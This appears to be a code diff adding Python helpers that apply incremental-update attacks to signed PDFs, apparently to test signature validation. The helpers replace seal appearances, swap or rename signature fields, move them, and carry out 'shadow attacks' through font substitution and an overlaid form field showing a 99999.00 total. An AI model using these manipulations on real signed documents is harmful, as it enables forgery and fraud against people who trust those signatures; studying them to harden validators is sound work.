@@ -130,3 +130,76 @@ def wrapped(signed: bytes) -> bytes:
     body += b"6 0 obj\n%s\nendobj\n" % dictionary
     assert len(body) <= hole
     return signed[:start] + bytes(body).ljust(hole) + tail
+
+
+def _fields(writer: IncrementalPdfFileWriter) -> list[generic.DictionaryObject]:
+    return [reference.get_object() for reference in writer.root["/AcroForm"]["/Fields"]]
+
+
+def change_seal(writer: IncrementalPdfFileWriter) -> None:
+    """Paint another seal over a signature."""
+    field = _fields(writer)[0]
+    box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 90, 90)))
+    picture = generic.StreamObject(
+        {NAME("/Type"): NAME("/XObject"), NAME("/Subtype"): NAME("/Form"), NAME("/BBox"): box},
+        stream_data=b"0 1 0 rg 0 0 90 90 re f",
+    )
+    field[NAME("/AP")] = generic.DictionaryObject({NAME("/N"): writer.add_object(picture)})
+    writer.update_container(field)
+
+
+def swap_values(writer: IncrementalPdfFileWriter) -> None:
+    """Let the first field show what the last one signed."""
+    first, *_, last = _fields(writer)
+    signed = [field for field in (first, last) if "/V" in field]
+    first[NAME("/V")] = signed[-1].raw_get("/V")
+    first[NAME("/T")], last[NAME("/T")] = last["/T"], first["/T"]
+    writer.update_container(first)
+    writer.update_container(last)
+
+
+def move_field(writer: IncrementalPdfFileWriter) -> None:
+    """Move a seal to another place."""
+    field = _fields(writer)[0]
+    field[NAME("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (300, 600, 500, 800)))
+    writer.update_container(field)
+
+
+def rename_field(writer: IncrementalPdfFileWriter) -> None:
+    """Give a signature's field another name."""
+    field = _fields(writer)[0]
+    field[NAME("/T")] = generic.TextStringObject("Signature9")
+    writer.update_container(field)
+
+
+def replace_font(writer: IncrementalPdfFileWriter) -> None:
+    """Shadow attack: the same text in a font whose glyphs show something else."""
+    fonts = _page(writer)["/Resources"]["/Font"]
+    font = generic.DictionaryObject(
+        {
+            NAME("/Type"): NAME("/Font"),
+            NAME("/Subtype"): NAME("/Type1"),
+            NAME("/BaseFont"): NAME("/ZapfDingbats"),
+        }
+    )
+    fonts[NAME(next(iter(fonts)))] = writer.add_object(font)
+    writer.update_container(fonts)
+
+
+def replace_form(writer: IncrementalPdfFileWriter) -> None:
+    """Shadow attack: another form with another field lies over the page."""
+    field = generic.DictionaryObject(
+        {
+            NAME("/Type"): NAME("/Annot"),
+            NAME("/Subtype"): NAME("/Widget"),
+            NAME("/FT"): NAME("/Tx"),
+            NAME("/T"): generic.TextStringObject("total"),
+            NAME("/V"): generic.TextStringObject("99999.00"),
+            NAME("/Rect"): generic.ArrayObject(map(generic.NumberObject, (70, 690, 400, 720))),
+        }
+    )
+    reference = writer.add_object(field)
+    _page(writer).setdefault(NAME("/Annots"), generic.ArrayObject()).append(reference)
+    fields = writer.root["/AcroForm"]["/Fields"]
+    fields.append(reference)
+    writer.update_container(fields)
